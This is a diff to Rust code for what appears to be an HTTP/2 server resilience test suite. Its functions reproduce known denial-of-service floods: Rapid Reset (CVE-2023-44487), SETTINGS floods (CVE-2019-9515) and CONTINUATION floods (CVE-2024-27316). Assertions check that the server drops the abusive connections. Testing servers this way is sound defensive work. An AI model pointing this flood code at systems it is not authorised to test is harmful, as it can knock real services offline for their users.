@@ -10,10 +10,10 @@ use tokio::net::TcpStream;
 use tokio::task::JoinSet;
 use tokio::time::{self, Instant};
 
-use crate::attack::{FLOODERS, Statuses, Target, flood, open};
+use crate::attack::{FLOODERS, Statuses, Target, in_a_row, open, send};
 use crate::frames::{
-    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, frame, head,
-    header, setting, start,
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING,
+    RST_STREAM, frame, head, header, setting, start,
 };
 use crate::http1::{batch, wait};
 
@@ -46,13 +46,11 @@ async fn floods_of(
                 if stream.write_all(&first).await.is_err() {
                     continue;
                 }
-                for number in 0.. {
-                    let sent = flood_once(&mut stream, &bytes(number), end).await;
-                    count += sent;
-                    if sent == 0 {
-                        break;
-                    }
+                let mut number = 0;
+                while send(&mut stream, &bytes(number), end).await {
+                    number += 1;
                 }
+                count += u64::from(number);
             }
             (connections, count)
         });
@@ -61,18 +59,12 @@ async fn floods_of(
     let (connections, count) =
         ended.into_iter().fold((0, 0), |sum, it| (sum.0 + it.0, sum.1 + it.1));
     assert!(count > 0, "nothing was sent");
-    // The server ends what is sent like this, and the connections are more than at a time.
-    assert!(connections > FLOODERS, "{count} floods ended none of {connections} connections");
     (connections, count)
 }
 
-/// Sends once; 0 if the connection ended or the time is over
-async fn flood_once(stream: &mut TcpStream, bytes: &[u8], end: Instant) -> u64 {
-    if Instant::now() >= end {
-        return 0;
-    }
-    let soon = end.min(Instant::now() + Duration::from_micros(1));
-    flood(stream, bytes, soon).await
+/// The server ends what no client needs, so there were more connections than at a time
+fn assert_ended(connections: usize) {
+    assert!(connections > FLOODERS, "none of {connections} connections was ended");
 }
 
 /// CVE-2023-44487
@@ -88,6 +80,7 @@ pub(crate) async fn rapid_reset(target: Target) -> String {
         bytes
     };
     let (connections, count) = floods_of(target, start(WINDOW), request).await;
+    assert_ended(connections);
     format!("{} requests on {connections} connections", 100 * count)
 }
 
@@ -100,9 +93,21 @@ pub(crate) async fn pings(target: Target) -> String {
 
 /// CVE-2019-9515
 pub(crate) async fn settings(target: Target) -> String {
-    let change = setting(crate::frames::INITIAL_WINDOW_SIZE, WINDOW).repeat(100);
+    let change = setting(INITIAL_WINDOW_SIZE, WINDOW).repeat(100);
     let (connections, count) = floods(target, start(WINDOW), change).await;
     format!("{} settings on {connections} connections", 100 * count)
+}
+
+/// Connections that end after their first frames, one after the other
+pub(crate) async fn short_connections(target: Target) -> String {
+    let ended = in_a_row(target, move || async move {
+        let change = setting(INITIAL_WINDOW_SIZE, WINDOW).repeat(100);
+        let mut stream = TcpStream::connect(target.address).await?;
+        stream.write_all(&[start(WINDOW), change].concat()).await?;
+        Ok("ended".to_owned())
+    })
+    .await;
+    format!("of 100 settings each: {}", ended.text())
 }
 
 /// CVE-2024-27316
@@ -110,6 +115,7 @@ pub(crate) async fn continuations(target: Target) -> String {
     let first = [start(WINDOW), frame(HEADERS, END_STREAM, 1, &head("GET", "/health"))].concat();
     let more = frame(CONTINUATION, 0, 1, &header("x", &"x".repeat(100)).repeat(100));
     let (connections, count) = floods(target, first, more).await;
+    assert_ended(connections);
     format!("{count} frames of 10 KiB on {connections} connections")
 }
 
